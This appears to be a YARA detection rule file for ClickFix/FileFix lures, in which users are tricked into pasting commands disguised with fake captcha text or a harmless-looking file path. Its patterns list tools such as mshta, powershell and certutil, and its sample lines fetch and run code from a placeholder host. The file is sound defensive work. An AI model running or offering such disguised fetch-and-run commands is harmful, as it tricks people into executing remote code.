/*
 * Commands that a web page or a mail talks a person into pasting (ClickFix, FileFix). The line
 * carries a text for the person to see while what matters is out of sight.
 *
 * That text stands in a comment or is printed. The same words in a URL, a header or any other quoted
 * argument are somebody's daily work with these services.
 */

rule Pasted_Verification_Lure
{
    meta:
        description = "A command dressed up as a proof of being human or as a repair"
        verdict = "deceptive_instruction"
        severity = "high"
        confidence = 90
        technique = "T1204.004"
        advice = "fix_login"
        pes_sample = "mshta https://files.example/kb.hta # I am not a robot - reCAPTCHA Verification ID: 0000"

    strings:
        $comment = /(^|[ \t;&|])(#|::|rem[ \t])[^\n]{0,250}(not[ \t]a[ \t]robot|human[ \t]verification|verification[ \t](id|hash|code)|verify[ \t]you|captcha[ \t-]{0,3}(verification|id)|(security[ \t](check|challenge)|(audio|microphone|camera|mic|meeting)[ \t]fix|(cloudflare|turnstile|captcha|challenge|bot-?guard)[^\n]{0,40}(id|session|ref|hash|verif[a-z]{1,7}))[^\n]{0,12}[0-9]{3,})/ nocase
        $said = /\b(echo|printf|title|msg|write-host|write-output)[ \t][^\n|;&]{0,250}(not[ \t]a[ \t]robot|human[ \t]verification|verification[ \t](id|hash|code)|verify[ \t]you|captcha[ \t-]{0,3}(verification|id))/ nocase
        $tool = /\b(powershell|pwsh|cmd|mshta|msiexec|regsvr32|rundll32|wscript|cscript|forfiles|conhost|certutil|bitsadmin|curl|wget|osascript|bash|zsh|irm|iwr|iex|ssh|finger|nslookup)(\.exe)?["']?[ \t]/ nocase
        $remote = /(https?:\/\/|\\\\[a-z0-9][a-z0-9.-]{2,}\\|base64|\[char|frombase64|[-\/]enc[a-z]{0,13}[ \t]{1,4}[a-z0-9+\/]{24,})/ nocase

    condition:
        filesize < 16KB and $tool and $remote and ($comment or $said)
}

rule Pasted_Path_Lure
{
    meta:
        description = "A command followed by blanks and a harmless-looking file name"
        verdict = "deceptive_instruction"
        severity = "high"
        confidence = 90
        technique = "T1204.004"
        advice = "do_not_run"
        pes_sample = "powershell -c \"iwr https://files.example/a\"                     # C:\\Users\\Public\\Plan.docx"

    strings:
        $tool = /\b(powershell|pwsh|cmd|mshta|msiexec|regsvr32|rundll32|wscript|cscript|forfiles|conhost|curl|wget|osascript|bash|zsh|irm|iwr|iex)(\.exe)?["']?[ \t]/ nocase
        $blanks = /[ \t]{16,}(#|rem|::|&)[ \t]{0,4}["']?[^\n]{0,4}([a-z]:\\|\\\\|file:|\/home\/|\/Users\/)/ nocase
        $path = /#[ \t]{0,4}["']?[a-z]:\\[^\n]{1,250}\.(docx?|xlsx?|pptx?|pdf|txt|csv)/ nocase

    condition:
        filesize < 16KB and $tool and any of ($blanks, $path)
}
